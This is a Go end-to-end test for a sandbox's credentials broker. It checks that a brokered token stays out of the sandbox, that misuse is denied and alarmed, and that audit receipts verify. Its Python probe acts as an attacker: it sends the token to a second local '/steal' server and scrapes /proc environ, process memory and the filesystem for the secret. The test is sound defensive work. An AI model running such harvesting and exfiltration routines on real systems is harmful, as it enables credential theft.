package main_test

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/hex"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"net/http/cgi"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"
)

// testCA is a CA of the test's own, standing for a private upstream CA
// (network.upstream_ca): it signs the upstream servers' certificates.
type testCA struct {
	cert *x509.Certificate
	key  *ecdsa.PrivateKey
	pem  []byte
}

func newTestCA(t *testing.T) *testCA {
	t.Helper()
	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "creds test CA"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour), IsCA: true, BasicConstraintsValid: true,
		KeyUsage: x509.KeyUsageCertSign}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	c, _ := x509.ParseCertificate(der)
	return &testCA{cert: c, key: key, pem: pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})}
}

// serve starts an HTTPS server on 127.0.0.1 with a certificate the CA
// signs.
func (ca *testCA) serve(t *testing.T, h http.Handler) (port string) {
	t.Helper()
	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(time.Now().UnixNano()), Subject: pkix.Name{CommonName: "127.0.0.1"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		IPAddresses: []net.IP{net.ParseIP("127.0.0.1")}, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, ca.cert, &key.PublicKey, ca.key)
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewUnstartedServer(h)
	srv.TLS = &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}}
	srv.StartTLS()
	t.Cleanup(srv.Close)
	_, port, _ = net.SplitHostPort(srv.Listener.Addr().String())
	return port
}

// seenLog records what an upstream received.
type seenLog struct {
	mu   sync.Mutex
	reqs []string // "METHOD /path auth=... x-token=..."
}

func (s *seenLog) add(r *http.Request) {
	auth := r.Header.Get("Authorization")
	if u, p, ok := r.BasicAuth(); ok {
		auth = "basic " + u + ":" + p
	}
	s.mu.Lock()
	s.reqs = append(s.reqs, fmt.Sprintf("%s %s auth=%s x-token=%s", r.Method, r.URL.Path, auth, r.Header.Get("X-Token")))
	s.mu.Unlock()
}

func (s *seenLog) all() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]string(nil), s.reqs...)
}

// credsProbe is the sandbox side: python urllib requests, git over HTTPS
// (clone, push, fetch) with the placeholder as the password, and a search
// for the real value (known to the probe only by a short prefix and its
// sha256) in the environment, /proc, the memory of every process it may
// read, the filesystem and every response it received.
const credsProbe = `import hashlib, json, os, re, subprocess, sys, urllib.request, urllib.error
PREFIX, DIGEST, LEN = %q.encode(), %q, %d
GOOD, OTHER = %q, %q
tok = os.environ["TOKEN"]
out = {"requests": [], "git": []}
def hits(data):
    n, i = 0, data.find(PREFIX)
    while i >= 0:
        if hashlib.sha256(data[i:i+LEN]).hexdigest() == DIGEST:
            n += 1
        i = data.find(PREFIX, i + 1)
    return n
responses = b""
def req(method, url, hdrs):
    global responses
    r = urllib.request.Request(url, method=method, headers=hdrs)
    try:
        resp = urllib.request.urlopen(r, timeout=30)
        code, body, h = resp.status, resp.read(), resp.headers
    except urllib.error.HTTPError as e:
        code, body, h = e.code, e.read(), e.headers
    responses += body + str(h).encode()
    out["requests"].append([method, url.split(":", 2)[2], code, h.get("X-Agentbox-Reason", "")])
base = "https://127.0.0.1:" + GOOD
req("GET", base + "/api/repos/ok", {"Authorization": "Bearer " + tok})
req("POST", base + "/api/repos/ok", {"X-Token": tok})
req("GET", base + "/api/admin/keys", {"Authorization": "Bearer " + tok})
req("DELETE", base + "/api/repos/ok", {})
req("GET", "https://127.0.0.1:" + OTHER + "/steal", {"Authorization": "Bearer " + tok})
req("GET", base + "/api/repos/altered", {"X-Token": tok.upper()})
env = dict(os.environ, HOME="/tmp", GIT_TERMINAL_PROMPT="0")
url = "https://x:" + tok + "@127.0.0.1:" + GOOD + "/git/repo.git"
for args in (["clone", url, "/tmp/clone"],
             ["-C", "/tmp/clone", "-c", "user.name=a", "-c", "user.email=a@b", "commit", "--allow-empty", "-m", "from the sandbox"],
             ["-C", "/tmp/clone", "push", "origin", "HEAD:main"],
             ["-C", "/tmp/clone", "fetch", "origin"]):
    p = subprocess.run(["git"] + args, env=env, capture_output=True)
    out["git"].append([args[0] if args[0] != "-C" else args[2], p.returncode, p.stderr.decode()[-300:]])
    responses += p.stdout + p.stderr
out["resp_hits"] = hits(responses)
out["env_hits"] = sum(hits(v.encode()) for v in os.environ.values())
proc_hits = mem_hits = mem_ph = 0
mem_pids = []
for pid in [d for d in os.listdir("/proc") if d.isdigit()]:
    for f in ("environ", "cmdline"):
        try:
            proc_hits += hits(open("/proc/%%s/%%s" %% (pid, f), "rb").read())
        except OSError:
            pass
    try:
        maps = open("/proc/%%s/maps" %% pid).read().splitlines()
        mem = open("/proc/%%s/mem" %% pid, "rb", 0)
    except OSError:
        continue
    ok = False
    for line in maps:
        f = line.split()
        if "r" not in f[1] or (len(f) > 5 and f[5] in ("[vvar]", "[vsyscall]")):
            continue
        lo, hi = [int(x, 16) for x in f[0].split("-")]
        if hi - lo > 256 << 20:
            continue
        try:
            mem.seek(lo)
            data = mem.read(hi - lo)
        except (OSError, ValueError, OverflowError):
            continue
        ok = True
        mem_hits += hits(data)
        mem_ph += data.count(tok.encode())
    if ok:
        mem_pids.append(int(pid))
out.update(proc_hits=proc_hits, mem_hits=mem_hits, mem_placeholder_hits=mem_ph, mem_pids=mem_pids)
file_hits = files = 0
for root, dirs, names in os.walk("/"):
    if root == "/":
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
    for n in names:
        p = os.path.join(root, n)
        try:
            if os.path.islink(p) or not os.path.isfile(p) or os.path.getsize(p) > 64 << 20:
                continue
            file_hits += hits(open(p, "rb").read())
            files += 1
        except OSError:
            pass
out.update(file_hits=file_hits, files=files)
bundle = os.environ.get("SSL_CERT_FILE", "")
out["bundle_certs"] = open(bundle).read().count("BEGIN CERTIFICATE") if bundle else 0
out["bundle_key"] = "PRIVATE KEY" in open(bundle).read() if bundle else True
try:
    open(bundle, "a").close()
    out["bundle_writable"] = True
except OSError:
    out["bundle_writable"] = False
print("PROBE " + json.dumps(out))
`

// TestBrokeredSecretsEffect runs the credentials broker for real through
// the binary on Docker (TestK8sBrokeredSecretsEffect on the cluster): the value is never inside the sandbox (env, /proc,
// process memory, files, responses), the upstream receives it only from
// allowed requests, misuse is refused and alarmed, rules allow and deny as
// written, git clones, pushes and fetches with the brokered token, and the
// receipts are in a verified audit chain.
func TestBrokeredSecretsEffect(t *testing.T) { brokeredSecrets(t, dockerBroker(t)) }

func brokeredSecrets(t *testing.T, be brokerEnv) {
	backend, err := exec.LookPath("git")
	if err != nil {
		t.Skip("no git on the host")
	}
	httpBackend := filepath.Join(filepath.Dir(backend), "..", "lib", "git-core", "git-http-backend")
	if _, err := os.Stat(httpBackend); err != nil {
		t.Skipf("no git-http-backend: %v", err)
	}
	var rb [12]byte
	rand.Read(rb[:])
	value := "cr3dsE2E" + hex.EncodeToString(rb[:])
	sum := sha256.Sum256([]byte(value))

	dir := t.TempDir()
	repos := filepath.Join(dir, "repos")
	seed := filepath.Join(dir, "seed")
	for _, args := range [][]string{
		{"init", "-q", "-b", "main", seed},
		{"-C", seed, "-c", "user.name=h", "-c", "user.email=h@h", "commit", "-q", "--allow-empty", "-m", "seed"},
		{"clone", "-q", "--bare", seed, filepath.Join(repos, "repo.git")},
		{"--git-dir", filepath.Join(repos, "repo.git"), "config", "http.receivepack", "true"},
	} {
		if out, err := exec.Command("git", args...).CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v %s", args, err, out)
		}
	}
	ca := newTestCA(t)
	good, other := &seenLog{}, &seenLog{}
	gitCGI := &cgi.Handler{Path: httpBackend, Root: "/git",
		Env: []string{"GIT_PROJECT_ROOT=" + repos, "GIT_HTTP_EXPORT_ALL=1", "REMOTE_USER=x", "HOME=" + dir}, InheritEnv: []string{"PATH"}}
	goodPort := ca.serve(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		good.add(r)
		if strings.HasPrefix(r.URL.Path, "/git/") {
			if _, pw, ok := r.BasicAuth(); !ok || pw != value {
				w.Header().Set("WWW-Authenticate", `Basic realm="git"`)
				http.Error(w, "auth required", http.StatusUnauthorized)
				return
			}
			gitCGI.ServeHTTP(w, r)
			return
		}
		io.Copy(io.Discard, r.Body)
		echo := r.Header.Get("Authorization") + r.Header.Get("X-Token")
		w.Header().Set("X-Echo", echo)
		fmt.Fprintf(w, "you sent %s", echo) // a careless API echoing the credential
	}))
	otherPort := ca.serve(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { other.add(r) }))

	caFile := writeFile(t, filepath.Join(dir, "upstream-ca.pem"), string(ca.pem), 0o644)
	pol := writeFile(t, filepath.Join(dir, "creds.yaml"), fmt.Sprintf(`version: 1
extends: none
commands: {default: allow}
sandbox: {network: proxy, timeouts: {call: 300s}%[3]s}
network:
  allow: ["127.0.0.1"]
  upstream_ca: %[1]s
  rules:
    - {host: "127.0.0.1:%[2]s", paths: ["/api/admin/**"], action: deny}
    - {host: "127.0.0.1:%[2]s", methods: [DELETE], action: deny}
secrets:
  TOKEN: {from: "env:CREDS_E2E_TOKEN", hosts: ["127.0.0.1:%[2]s"], headers: [Authorization, X-Token]}
`, caFile, goodPort, be.sandbox), 0o644)
	ws := t.TempDir()
	writeFile(t, filepath.Join(ws, "probe.py"), fmt.Sprintf(credsProbe, value[:10], hex.EncodeToString(sum[:]), len(value), goodPort, otherPort), 0o644)
	log := filepath.Join(dir, "audit.jsonl")
	r := be.run(t, []string{"CREDS_E2E_TOKEN=" + value}, "exec", "--workspace", ws, "--policy", pol, "--audit", log, "--",
		"env -u NO_PROXY -u no_proxy python3 probe.py")
	if r.code != 0 {
		t.Fatalf("exec: %d\n%s\n%s", r.code, r.stdout, r.stderr)
	}
	if !strings.Contains(r.stderr, "secrets brokered (placeholders in the sandbox): TOKEN") {
		t.Errorf("the start header does not say the secrets are brokered: %q", r.stderr)
	}
	if strings.Contains(r.stdout+r.stderr, value) {
		t.Fatal("the value reached the terminal")
	}
	_, js, ok := strings.Cut(r.stdout, "PROBE ")
	if !ok {
		t.Fatalf("no probe result: %s %s", r.stdout, r.stderr)
	}
	var probe struct {
		Requests           [][]any `json:"requests"`
		Git                [][]any `json:"git"`
		RespHits           int     `json:"resp_hits"`
		EnvHits            int     `json:"env_hits"`
		ProcHits           int     `json:"proc_hits"`
		MemHits            int     `json:"mem_hits"`
		MemPlaceholderHits int     `json:"mem_placeholder_hits"`
		FileHits           int     `json:"file_hits"`
		Files              int     `json:"files"`
		MemPids            []int   `json:"mem_pids"`
		BundleCerts        int     `json:"bundle_certs"`
		BundleKey          bool    `json:"bundle_key"`
		BundleWritable     bool    `json:"bundle_writable"`
	}
	dec := json.NewDecoder(strings.NewReader(js))
	if err := dec.Decode(&probe); err != nil {
		t.Fatalf("probe output: %v\n%s", err, js)
	}
	t.Logf("probe: %+v", probe)
	// Inside the sandbox: nowhere. The scan is real: the placeholder is
	// found in memory, files were read.
	if probe.RespHits+probe.EnvHits+probe.ProcHits+probe.MemHits+probe.FileHits != 0 {
		t.Errorf("the value is inside the sandbox: responses %d, env %d, /proc %d, memory %d, files %d",
			probe.RespHits, probe.EnvHits, probe.ProcHits, probe.MemHits, probe.FileHits)
	}
	if probe.MemPlaceholderHits == 0 || len(probe.MemPids) == 0 || probe.Files < 100 {
		t.Errorf("the memory/file scan did not run: %+v", probe)
	}
	// The CA bundle: the image's roots plus the session CA, read-only,
	// no key.
	if probe.BundleCerts < 50 || probe.BundleKey || probe.BundleWritable {
		t.Errorf("CA bundle: %d certificates, key %v, writable %v", probe.BundleCerts, probe.BundleKey, probe.BundleWritable)
	}
	wantStatus := []float64{200, 200, 403, 403, 403, 200}
	for i, rq := range probe.Requests {
		if rq[2].(float64) != wantStatus[i] {
			t.Errorf("request %v: status %v, want %v", rq, rq[2], wantStatus[i])
		}
		if wantStatus[i] == 403 && rq[3].(string) == "" {
			t.Errorf("request %v: refused without a reason header", rq)
		}
	}
	for _, g := range probe.Git {
		if g[1].(float64) != 0 {
			t.Errorf("git %v failed: %v", g[0], g[2])
		}
	}
	// The upstream: the value from allowed requests only.
	var withValue []string
	for _, s := range good.all() {
		if strings.Contains(s, "/api/admin") || strings.HasPrefix(s, "DELETE") {
			t.Errorf("a denied request reached the upstream: %s", s)
		}
		if strings.Contains(s, value) {
			withValue = append(withValue, strings.ReplaceAll(s, value, "VALUE"))
		}
		if strings.Contains(s, "/api/repos/altered") && strings.Contains(s, value) {
			t.Errorf("an altered placeholder was substituted: %s", s)
		}
	}
	if len(withValue) < 4 || !strings.Contains(strings.Join(withValue, "\n"), "/api/repos/ok auth=Bearer VALUE") {
		t.Errorf("upstream received the value from: %q", withValue)
	}
	if got := other.all(); len(got) != 0 {
		t.Errorf("the other destination received %q", got)
	}
	if out, err := exec.Command("git", "--git-dir", filepath.Join(repos, "repo.git"), "log", "-1", "--format=%s", "main").CombinedOutput(); err != nil || strings.TrimSpace(string(out)) != "from the sandbox" {
		t.Errorf("push did not land: %v %s", err, out)
	}
	// The workspace and the audit log: never the value; receipts, the
	// alarm and the rule's deny are there, in a chain that verifies.
	be.applyPending(t, r)
	filepath.Walk(ws, func(p string, fi os.FileInfo, err error) error {
		if err == nil && fi.Mode().IsRegular() {
			if b, _ := os.ReadFile(p); strings.Contains(string(b), value) {
				t.Errorf("the value is in the workspace: %s", p)
			}
		}
		return nil
	})
	raw, err := os.ReadFile(log)
	if err != nil || strings.Contains(string(raw), value) {
		t.Fatalf("audit log: %v (or it holds the value)", err)
	}
	var receipts, alarms, ruleDenies int
	for _, line := range strings.Split(strings.TrimSpace(string(raw)), "\n") {
		var rec map[string]any
		json.Unmarshal([]byte(line), &rec)
		switch {
		case rec["event"] == "net" && rec["secret"] == "TOKEN" && rec["decision"] == "allow":
			if rec["call_id"] != "exec" || len(fmt.Sprint(rec["body_sha256"])) != 64 || rec["net_status"] == nil {
				t.Errorf("receipt without call id, body sha256 or status: %s", line)
			}
			receipts++
		case rec["event"] == "alarm" && rec["what"] == "secret_misuse":
			if fmt.Sprint(rec["net_port"]) != otherPort && !strings.Contains(fmt.Sprint(rec["net_path"]), "/api/admin") {
				t.Errorf("alarm without the destination: %s", line)
			}
			alarms++
		case rec["event"] == "net" && rec["decision"] == "deny" && strings.Contains(fmt.Sprint(rec["rule_text"]), "action: deny"):
			ruleDenies++
		}
	}
	if receipts < 4 || alarms != 2 || ruleDenies < 2 {
		t.Errorf("receipts %d (want >= 4), secret_misuse alarms %d (want 2), rule denies %d (want >= 2)", receipts, alarms, ruleDenies)
	}
	if r, _ := verifyLog(t, nil, log); r.code != 0 {
		t.Errorf("audit verify: %d %q %q", r.code, r.stdout, r.stderr)
	}
	// Replay re-decides the requests on method and path: the same policy
	// changes nothing; without the rules the two denied requests flip.
	if r := agentbox(t, nil, "audit", "replay", "--policy", pol, log); r.code != 0 {
		t.Errorf("replay under the same policy: %d %q %q", r.code, r.stdout, r.stderr)
	}
	loose := writeFile(t, filepath.Join(dir, "loose.yaml"), fmt.Sprintf("version: 1\nextends: none\ncommands: {default: allow}\nsandbox: {network: proxy}\nnetwork:\n  allow: [\"127.0.0.1\"]\nsecrets:\n  TOKEN: {from: \"env:CREDS_E2E_TOKEN\", hosts: [\"127.0.0.1:%s\"]}\n", goodPort), 0o644)
	if r := agentbox(t, []string{"CREDS_E2E_TOKEN=x"}, "audit", "replay", "--policy", loose, log); r.code != 1 || !strings.Contains(r.stdout, "127.0.0.1:"+goodPort) {
		t.Errorf("replay without the rules: %d %q %q", r.code, r.stdout, r.stderr)
	}
}
